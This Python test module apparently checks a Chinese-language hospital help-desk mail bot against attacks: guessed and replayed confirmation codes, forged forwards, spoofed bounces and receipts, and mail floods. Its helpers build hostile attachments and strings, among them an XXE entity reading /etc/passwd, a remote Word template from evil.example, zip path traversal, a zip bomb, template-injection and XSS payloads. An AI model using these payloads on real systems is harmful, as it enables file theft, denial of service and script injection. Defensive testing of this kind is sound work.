"""What an attacker does, and what is asked of the desk afterwards."""

import re
from collections.abc import Callable
from email import message_from_bytes
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from mailbot.core import facts as f
from mailbot.core.model import Role, Status
from mailbot.shell.courier import Sent
from mailbot.shell.delivery import deliver
from tests.attacks.stage import CLERK, EVIL, FAILED, NURSE, OFFICE, Stage, raw, word, zipped

TRUSTED = "Authentication-Results: mx.weibao.example; spf=pass smtp.mailfrom=hospital.example"
ADMIT = f"登记 {EVIL} 张三 信息科"
FAULT = "团检结算单抬头单位名称显示不全，先手写补上。\n操作：团检—结算。Win7。"
FORMULA = "=HYPERLINK(1+2)"
HOSTILE = "{{7*7}} {% for x in range(9) %}no{% endfor %} {{ contract.__class__ }}"
PAGE = f'<p onclick=alert(1)>{FAULT}</p><script>alert(1)</script><img src="http://evil.example/p.gif"><a href="javascript:x">打开</a>'

Move = Callable[[Stage], object]


def confirmed(stage: Stage) -> bool:
    return stage.status is not Status.AWAITING


def coded(stage: Stage) -> bool:
    """Whether the registered clerk, and nobody else, was asked for a code."""
    return "验证码：" in stage.told(CLERK) and not [
        one for one in stage.addressees() - {CLERK} if "验证码：" in stage.told(one)
    ]


def evil_known(stage: Stage) -> bool:
    return stage.village.desk.state.person(EVIL).role is not Role.STRANGER


def code(stage: Stage) -> str:
    """The code the clerk was sent, which an attacker does not see but tests may."""
    found = re.findall(r"验证码：([A-Z]{4}-[A-Z]{4})", stage.told(CLERK))
    return str(found[-1])


def report(stage: Stage, *headers: str, text: str = FAULT, **parts: object) -> None:
    """A report of a person known and proven, with whatever is wrong with the rest of it."""
    given = "".join(headers)
    own = ("From: " + CLERK,) if "From:" not in given else ()
    subject = ("Subject: x",) if "Subject:" not in given else ()
    stage.send(
        raw(
            TRUSTED,
            *own,
            *subject,
            f"Message-ID: <{stage.village.count}@hospital.example>",
            *headers,
            text=text,
            **parts,
        )
    )  # type: ignore[arg-type]


def guesses(stage: Stage) -> None:
    stage.send(stage.reply(CLERK, FAILED))
    right = code(stage)
    for place in range(2, 9):
        stage.send(stage.reply(CLERK, FAILED, text=f"验证码 BBBB-BBB{'BCDFGHJK'[place - 2]}", number=place))
    stage.send(stage.reply(CLERK, FAILED, text=f"验证码 {right}", number=10))


def replayed(stage: Stage) -> None:
    """A confirmation of the clerk's, a rejection of hers, and then the confirmation again as it passed another relay."""
    stage.send(stage.reply(CLERK, TRUSTED, text="确认。", number=1))
    stage.send(stage.reply(CLERK, TRUSTED, text="未解决，还是读不出来。", number=2))
    stage.send(stage.reply(CLERK, "X-Relay: again", TRUSTED, text="确认。", number=1))


def anothers(stage: Stage) -> None:
    stage.send(stage.reply(CLERK, FAILED))
    stage.send(
        raw(TRUSTED, f"From: {NURSE}", "Subject: x", "Message-ID: <9@hospital.example>", text=f"验证码 {code(stage)}")
    )


def quoted_admission(stage: Stage) -> None:
    """The stranger writes the line that admits; 信息科 only asks about it, and its program quotes everything."""
    stage.send(raw(f"From: {EVIL}", "Subject: x", "Message-ID: <1@evil.example>", text=f"请回复：\n{ADMIT}"))
    text = f"这人是谁？\n\n在 2026-03-10 10:00，服务台 写道：\n> 请回复：\n> {ADMIT}\n"
    stage.send(raw(TRUSTED, f"From: {OFFICE}", "Subject: Re: x", "Message-ID: <2@hospital.example>", text=text))


def forwards(who: str, text: str, comment: str = "请帮忙看一下。") -> Move:
    """Somebody known sends a stranger's letter on to the desk."""
    head = f"{comment}\n\n---------- 转发邮件 ----------\n发件人: 张三 <{EVIL}>\n发送时间: 2026年3月10日 9:10\n收件人: 李喆 <{OFFICE}>\n主题: x\n\n"
    subject = f"Subject: {word('转发：x')}"
    return lambda stage: stage.send(raw(TRUSTED, f"From: {who}", subject, "Message-ID: <9@h>", text=head + text))


def forwards_the_code(stage: Stage) -> None:
    """The clerk wonders at the letter with the code and sends it on to the desk."""
    asked = stage.send(stage.reply(CLERK, FAILED))[0]
    forwards(CLERK, asked.text, "这是什么？")(stage)


def files(stage: Stage) -> set[str]:
    """Every file of the home, and what lies beside it."""
    return {str(path.relative_to(stage.home.parent)) for path in stage.home.parent.rglob("*") if path.is_file()}


def stray(stage: Stage) -> list[str]:
    """Files that are named by anything but a hash, beside those a home has."""
    own = re.compile(
        r"home/(?:mailbot\.toml|password|key|journal\S*|ledger/\S+|(?:mail|letters|aside)/(?:[0-9a-f]{2}/)?[0-9a-f]{64}\.\w+|mail/attempts\.jsonl)"
    )
    return [name for name in files(stage) if not own.fullmatch(name)]


def attached(name: str, data: bytes = b"\xff\xd8\xff\xe0 photo") -> Callable[[Stage], None]:
    return lambda stage: report(stage, text=FAULT, file=(name, data))


def with_form(
    change: Callable[[dict[str, bytes]], dict[str, bytes]] = dict, name: str = "filename=a.docx", **said: str
) -> Move:
    """A filled 附件1, its parts changed by somebody."""

    def does(stage: Stage) -> None:
        with ZipFile(BytesIO(stage.run_sheet(**said))) as archive:
            parts = {one: archive.read(one) for one in archive.namelist()}
        report(stage, "Subject: 运行表", text="附件1运行表见附件。", file=(name, zipped(**change(parts))))

    return does


def entity(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The main part reads a file of this machine."""
    text = parts["word/document.xml"].decode()
    head, rest = text.split("?>", 1)
    evil = re.sub(r"CPU 41%", "&xxe;", rest)
    return parts | {
        "word/document.xml": f'{head}?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{evil}'.encode()
    }


def remote(parts: dict[str, bytes]) -> dict[str, bytes]:
    """A template fetched from elsewhere when the file is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    more = f'<Relationship Id="rIdX" Type="{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    name = "word/_rels/document.xml.rels"
    return parts | {name: parts[name].replace(b"</Relationships>", more.encode())}


def macro(parts: dict[str, bytes]) -> dict[str, bytes]:
    return parts | {"word/vbaProject.bin": b"AutoOpen"}


def traversal(parts: dict[str, bytes]) -> dict[str, bytes]:
    return parts | {"../../../escaped.txt": b"escaped", "/tmp/escaped.txt": b"escaped"}


def enclosures(stage: Stage) -> list[str]:
    """Every part of every Office file that left."""
    found = []
    for letter in stage.letters:
        for file in letter.attachments:
            with ZipFile(BytesIO(file.data)) as archive:
                found += [f"{name}\n{archive.read(name).decode('utf-8', 'replace')}" for name in archive.namelist()]
    return found


class Post:
    """A mail system that takes everything."""

    def send(self, raw: bytes, sender: str, recipients: tuple[str, ...]) -> Sent:
        return Sent("ok")


def bounces(who: str, *headers: str, count: int = 1, known: bool = False) -> Move:
    """Mails that say a letter to the clerk failed, by a guess at it or, where it is known, by its Message-ID; all letters have left."""

    def does(stage: Stage) -> None:
        deliver(stage.village.desk, Post(), stage.village.clock.at)
        which = f"\n\nMessage-ID: <{stage.closing.message_id}>" if known else ""
        for place in range(count):
            text = f"很抱歉，您的邮件被退回。\n收件人：{CLERK}\n主题：{stage.closing.subject}\n退信原因：550 no such user {place}{which}"
            own = (
                f"From: {who}",
                "Return-Path: <>",
                f"Subject: {word('系统退信')}",
                f"Message-ID: <{place}@evil.example>",
            )
            stage.send(raw(*headers, *own, text=text))

    return does


def receipt(who: str, *headers: str) -> Move:
    """A read receipt (RFC 8098) for the letter that asks for a confirmation; its words confirm."""

    def does(stage: Stage) -> None:
        shown = f"Original-Message-ID: <{stage.closing.message_id}>\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n"
        kind = "Content-Type: multipart/report; report-type=disposition-notification; boundary=edge"
        whole = stage.reply(who, *headers, text="已读。确认，同意关单。").replace(
            b"Content-Type: multipart/mixed; boundary=edge", kind.encode()
        )
        part = f"--edge\r\nContent-Type: message/disposition-notification\r\n\r\n{shown}\r\n--edge--".encode()
        stage.send(whole.replace(b"--edge--", part))

    return does


def happens(kind: type[f.Fact]) -> Move:
    """Whether a fact of this kind happened."""
    return lambda stage: bool(stage.happened(kind))


def failed(stage: Stage) -> list[object]:
    """The letters marked as failed."""
    return list(stage.happened(f.LetterRefused))


def packed(*files: bytes) -> bytes:
    """A zip of files, deflated."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for place, data in enumerate(files):
            archive.writestr(f"{place}.zip", data)
    return out.getvalue()


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    inner = b"x"
    for _ in range(depth):
        inner = packed(inner)
    return inner


ZEROS = packed(*[bytes(1 << 20)] * 40)
"""Forty MiB in forty KB."""
BOMB = packed(*[packed(ZEROS, ZEROS)] * 20)
"""Sixteen hundred MiB, three zips deep."""


def flood(count: int, *headers: str) -> Callable[[Stage], None]:
    return lambda stage: (
        [
            stage.send(raw(*headers, f"Subject: {place}", f"Message-ID: <{place}@evil.example>", text="请问怎么报修？"))
            for place in range(count)
        ]
        and None
    )


def acts_flood(stage: Stage) -> None:
    for place in range(30):
        stage.send(stage.reply(CLERK, FAILED, number=place))


def pages(stage: Stage) -> bytes:
    """The HTML parts of every letter."""
    mails = [
        message_from_bytes(stage.village.desk.archive.letter(fact.sha256)) for fact in stage.happened(f.LetterPosted)
    ]  # type: ignore[attr-defined]
    parts = (part for mail in mails for part in mail.walk() if part.get_content_type() == "text/html")
    return b"".join(bytes(part.get_payload(decode=True)) for part in parts)  # type: ignore[arg-type]


def answer(who: str, *headers: str, **more: object) -> Move:
    """An answer to the letter that asks the clerk to confirm."""
    return lambda stage: stage.send(stage.reply(who, *headers, **more))  # type: ignore[arg-type]


def first(who: str, *headers: str, text: str = "确认。") -> Move:
    """A first mail."""
    subject = () if any(header.startswith("Subject:") for header in headers) else ("Subject: x",)
    return lambda stage: stage.send(raw(*headers, f"From: {who}", *subject, "Message-ID: <1@evil.example>", text=text))


def reports(*headers: str, **more: object) -> Move:
    """A report of the clerk's, proven, with something wrong in it."""
    return lambda stage: report(stage, *headers, **more)  # type: ignore[arg-type]


def says(who: str, *words: str) -> Move:
    """Whether somebody was written all of these words."""
    return lambda stage: all(word in stage.told(who) for word in words)


def writes_to(who: str) -> Move:
    """Whether any letter went there."""
    return lambda stage: who in stage.addressees()


def ends(how: str) -> Move:
    """Whether the last mail ended so."""
    return lambda stage: stage.ended()[-1] == how


def encloses(words: str) -> Move:
    """Whether an Office file that left holds the words."""
    return lambda stage: any(words in part for part in enclosures(stage))


def statement_of(words: str) -> Move:
    """A wish in these words by 附件3, and half a year later the statement that lists it."""

    def does(stage: Stage) -> None:
        report(stage, f"Subject: {words}", text="需求见附件3。", file=("filename=a.docx", stage.wish(words)))
        stage.letters += stage.village.wait("2026-07-10 12:00")

    return does


def digest_of(words: str) -> Move:
    """A report in these words, and the digest of its week, which encloses them in a worksheet."""

    def does(stage: Stage) -> None:
        report(stage, f"Subject: {words}", text=f"{words}\n{FAULT}")
        stage.letters += stage.village.wait("2026-03-16 12:00")

    return does


def encloses_formula(stage: Stage) -> bool:
    """Whether a worksheet that left has a formula, or a cell whose words would become one when edited."""
    sheets = [part for part in enclosures(stage) if part.startswith("xl/worksheets/")]
    looks = [part for part in enclosures(stage) if part.startswith("xl/styles.xml")]
    spoken = all("quotePrefix" in part for part in looks)
    return not sheets or not spoken or any("<f>" in part or "<f " in part for part in sheets)


def shows(pattern: bytes) -> Move:
    """Whether a letter's page has what the pattern finds."""
    return lambda stage: re.search(pattern, pages(stage))


def tells(pattern: str) -> Move:
    """Whether any letter has it in words or headers."""
    return lambda stage: re.search(pattern, stage.whole())
